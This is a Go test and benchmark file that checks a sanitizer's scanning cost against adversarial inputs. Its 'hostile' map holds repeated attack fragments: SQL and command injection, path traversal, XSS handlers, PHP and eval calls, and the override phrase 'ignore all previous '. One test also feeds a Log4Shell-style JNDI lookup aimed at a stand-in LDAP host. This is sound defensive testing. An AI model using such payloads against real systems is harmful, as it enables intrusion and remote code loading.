package sanitize_test

import (
	"encoding/base64"
	"errors"
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"icapd/sanitize"
	"icapd/sanitize/eval/evaltest"
	"icapd/scan"
)

// hostile are values made to cost time, a MiB each.
func hostile() map[string]string {
	const size = 1 << 20
	fill := func(s string) string { return strings.Repeat(s, size/len(s)+1)[:size] }
	nested := strings.Repeat("A", 64)
	for len(nested) < size*3/4 {
		nested = base64.StdEncoding.EncodeToString([]byte(nested))
	}
	return map[string]string{
		"brackets":        fill("["),
		"percent":         fill("%25"),
		"percent nested":  fill("%2525252525"),
		"quotes":          fill("'"),
		"double quotes":   fill(`"`),
		"quoted words":    fill("' or "),
		"base64":          nested,
		"ampersands":      fill("&"),
		"entities":        fill("&amp;"),
		"entities nested": fill("&amp;amp;amp;amp;"),
		"backslashes":     fill(`\`),
		"escapes":         fill(`\u005c`),
		"tags":            fill("<a "),
		"tags of quotes":  fill(`<a b="`),
		"less":            fill("<"),
		"on":              fill("on="),
		"onerror":         fill("onerror "),
		"braces":          fill("{{"),
		"dollars":         fill("${"),
		"lookups":         fill("${${"),
		"dots":            fill("../"),
		"dots encoded":    fill("%2e%2e%2f"),
		"points":          fill("."),
		"semicolons":      fill(";"),
		"commands":        fill(";cat "),
		"backticks":       fill("`"),
		"parentheses":     fill("("),
		"ldap":            fill(")("),
		"comments":        fill("/*"),
		"dashes":          fill("--"),
		"select":          fill("select "),
		"union":           fill("union select "),
		"selects":         fill("(select "),
		"and":             fill(" and 1"),
		"calls":           fill("sleep("),
		"urls":            fill("http://"),
		"schemes":         fill("a:"),
		"lines":           fill("\n"),
		"headers":         fill("\na:"),
		"ignore":          fill("ignore all previous "),
		"links":           fill("](http"),
		"zero width":      fill("a\u200b"),
		"full width":      fill("\uff1c"),
		"ligature":        fill("\ufdfa"),
		"overlong":        fill("\xc0\xae"),
		"utf-7":           fill("+AAA"),
		"plus":            fill("+"),
		"brace list":      fill("{cat,"),
		"formula":         "=" + fill("1+")[:size-1],
		"eval":            fill("eval("),
		"system":          fill("system("),
		"doctype":         fill("<!doctype "),
		"php":             fill("<?php "),
		"this":            fill("this."),
		"axes":            fill("child::"),
		"objects":         fill("o:1:"),
		"return":          fill(";return "),
		"pipes":           fill("||"),
		"hex":             fill("0x41"),
		"jndi":            fill("jndi:"),
		"include":         fill("include("),
		"page ends":       fill("</body>"),
		"pages":           fill("<a></html>x"),
		"handlers braced": fill("onclick={("),
		"elements":        fill("getElementById(\"x\" "),
		"entries":         fill("- `source`\n"),
		"ellipses":        fill("…"),
		"fractions":       fill("½"),
		"letters of math": fill("𝒜"),
		"signs":           fill("<>/=\"'&?!"),
		"short data URIs": fill("data:;base64,"),
		"arrows":          fill("-->"),
		"bars":            fill("|"),
		"joined":          fill("a||"),
		"lookups in ends": fill("';$"),
	}
}

// BenchmarkHostile measures one of them at a time, for profiles.
func BenchmarkHostile(b *testing.B) {
	e := builtin(b)
	for name, value := range hostile() {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(value)))
			start := cpuTime()
			for b.Loop() {
				e.Inspect(nil, []byte(value), sanitize.FieldContext{})
			}
			b.ReportMetric(float64((cpuTime()-start).Microseconds())/1000/float64(b.N), "cpu-ms/MiB")
		})
	}
}

// TestHostile holds the time of values that were made to cost it. BenchmarkHostile says what a MiB costs on a quiet
// machine; the limit here leaves room for the race detector and for neighbours.
func TestHostile(t *testing.T) {
	const size, limit = 64 << 10, 2 * time.Second
	e := builtin(t)
	for name, value := range hostile() {
		value = value[:size]
		start := cpuTime()
		hits := e.Inspect(nil, []byte(value), sanitize.FieldContext{})
		took := cpuTime() - start
		t.Logf("%-16s %6.1f ms, %d hits", name, float64(took.Microseconds())/1000, len(hits))
		if took > limit {
			t.Errorf("%s took %v of processor time", name, took)
		}
	}
}

// TestHostileFields holds the work for many short fields of the same: what is done once a separator or a sign in them shows
// there. What a document has of it, the work for an item bounds.
func TestHostileFields(t *testing.T) {
	const each = 400 // work for a byte
	e := builtin(t)
	for name, value := range hostile() {
		for _, size := range []int{40, 190} {
			plain := []byte(value[:size])
			layered := slices.Concat([]byte("%27"), plain, []byte(`&#39; \x3c`))
			for _, v := range [][]byte{plain, layered} {
				if work := sanitize.Work(e, v); work > each*len(v) {
					t.Errorf("%s: work of %d for the %d bytes of %q", name, work, len(v), v)
				}
			}
		}
	}
}

// TestHostileWork holds that the work for hostile values grows as their size does, up to a bound for each byte. It
// takes no time.
func TestHostileWork(t *testing.T) {
	const small, large, each, little = 16 << 10, 256 << 10, 150, 16
	e := builtin(t)
	for name, value := range hostile() {
		work, much := sanitize.Work(e, []byte(value[:small])), sanitize.Work(e, []byte(value[:large]))
		if much > each*large {
			t.Errorf("%s: work of %d for %d bytes", name, much, large)
		}
		if limit := max(work*(large/small)*3/2, little*large); much > limit {
			t.Errorf("%s: work of %d for %d bytes, and of %d for %d", name, much, large, work, small)
		}
	}
}

// TestItemWork holds that a document which is made to take work is given up with a gap once it took what its size allows,
// that what was found until then is reported, and that ordinary documents of any size take less.
func TestItemWork(t *testing.T) {
	e := builtin(t)
	scanned := func(fields []scan.Field) ([]scan.Finding, error) {
		it := document(nil, "application/json")
		it.Fields = replay(fields)
		return e.Scan(t.Context(), it)
	}
	hostile := []scan.Field{{Kind: scan.KindString, Value: []byte("${jndi:ldap://a.example/x}")}}
	for i := range 20000 {
		hostile = append(hostile, scan.Field{Kind: scan.KindString, Value: fmt.Appendf(nil, `%%27%d a.||b.||&#39; \x3c`, i)})
	}
	found, err := scanned(hostile)
	var gap *scan.Gap
	if !errors.As(err, &gap) || gap.Reason != scan.ReasonLimit || gap.Limit != "work" {
		t.Errorf("the gap is %v", err)
	}
	if len(found) == 0 || found[0].Class != "jndi" {
		t.Errorf("%d findings", len(found))
	}
	again, _ := scanned(hostile)
	if !reflect.DeepEqual(found, again) {
		t.Error("other findings when asked again")
	}
	if _, err := scanned(slices.Repeat(hostile[1:2], len(hostile))); err != nil {
		t.Errorf("a value that is known to be clean costs as much when it stands there again: %v", err)
	}

	var ordinary []scan.Field
	for len(ordinary) < 100_000 {
		for _, doc := range evaltest.Benign(t) {
			it := document(doc, "application/json")
			if err := it.Fields(t.Context(), func(f *scan.Field) bool {
				ordinary = append(ordinary, *f)
				return true
			}); err != nil {
				t.Fatal(err)
			}
		}
	}
	if _, err := scanned(ordinary); err != nil {
		t.Error(err)
	}
}
